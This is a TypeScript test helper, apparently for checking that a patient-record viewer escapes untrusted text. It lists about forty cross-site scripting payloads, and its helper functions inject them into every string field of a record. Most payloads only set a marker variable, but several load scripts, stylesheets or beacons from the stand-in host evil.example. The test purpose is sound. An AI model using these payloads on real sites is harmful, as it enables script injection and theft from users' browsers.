/** What a page runs when it takes text for markup, or an address for a harmless one; each sets `window.pwned`. */
export const PAYLOADS: readonly string[] = [
  '<script>window.pwned=1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=window.pwned=1>',
  '<img src="x" onerror="window.pwned=1">',
  "<img src='x' onerror='window.pwned=1'>",
  '<img src=https://evil.example/beacon>',
  '<svg onload=window.pwned=1>',
  '<svg><script>window.pwned=1</script></svg>',
  '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
  '<body onload=window.pwned=1>',
  '<iframe src="javascript:parent.pwned=1"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="javascript:window.pwned=1"></object>',
  '<embed src="javascript:window.pwned=1">',
  '<a href="javascript:window.pwned=1" autofocus onfocus=window.pwned=1>x</a>',
  '<input autofocus onfocus=window.pwned=1>',
  '<select autofocus onfocus=window.pwned=1>',
  '<textarea autofocus onfocus=window.pwned=1>',
  '<details open ontoggle=window.pwned=1>',
  '<video><source onerror=window.pwned=1></video>',
  '<audio src=x onerror=window.pwned=1>',
  '<marquee onstart=window.pwned=1>x</marquee>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><button autofocus onfocus=window.pwned=1>x</form>',
  '<math><mtext></p><img src=x onerror=window.pwned=1></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<template><img src=x onerror=window.pwned=1></template>',
  '"><script>window.pwned=1</script>',
  "'><img src=x onerror=window.pwned=1>",
  '" onmouseover="window.pwned=1" x="',
  "' autofocus onfocus='window.pwned=1' x='",
  '</script><script>window.pwned=1</script>',
  '</textarea><script>window.pwned=1</script>',
  '--><script>window.pwned=1</script><!--',
  'javascript:window.pwned=1',
  'data:text/html,<script>parent.pwned=1</script>',
  '{{constructor.constructor("window.pwned=1")()}}${window.pwned=1}',
]

/** One payload after the other, from this one on. */
export function inTurn(first: number): () => string {
  let slot = first
  return () => PAYLOADS[slot++ % PAYLOADS.length] ?? ''
}

/** Names are cut at 1000 characters: what stands behind would not reach the page. */
const LONGEST_TEXT = 800

/** All payloads in a few texts, so that every place can hold every payload. */
export const TOGETHER: readonly string[] = PAYLOADS.reduce<string[]>((texts, payload) => {
  const last = texts.at(-1)
  if (last === undefined || last.length + payload.length >= LONGEST_TEXT) return [...texts, payload]
  return [...texts.slice(0, -1), `${last} ${payload}`]
}, [])

/** What makes a record this patient's, found again and listed: with these changed it would not get as far as the page. */
const KEPT = new Set(['resourceType', 'id', 'reference', 'fullUrl', 'url', 'relation', 'mode', 'type'])
/** What people write; everything else is a code, a date or a unit. */
const WRITTEN = new Set(['text', 'display', 'description', 'family', 'given', 'conclusion', 'valueString'])

/**
 * The record with a payload in every string. Written text keeps its own words in front, so that it is recognised and
 * shown; in `codes` everything else is replaced too, which leaves little that can be read.
 */
export function poisoned(record: unknown, payload: () => string, codes: boolean): unknown {
  const visit = (value: unknown, name: string): unknown => {
    if (typeof value === 'string') {
      if (WRITTEN.has(name)) return codes ? payload() : `${value} ${payload()}`
      return codes && !KEPT.has(name) ? payload() : value
    }
    if (Array.isArray(value)) return value.map((one) => visit(one, name))
    if (typeof value !== 'object' || value === null) return value
    return Object.fromEntries(Object.entries(value).map(([key, inside]) => [key, visit(inside, key)]))
  }
  return visit(record, '')
}
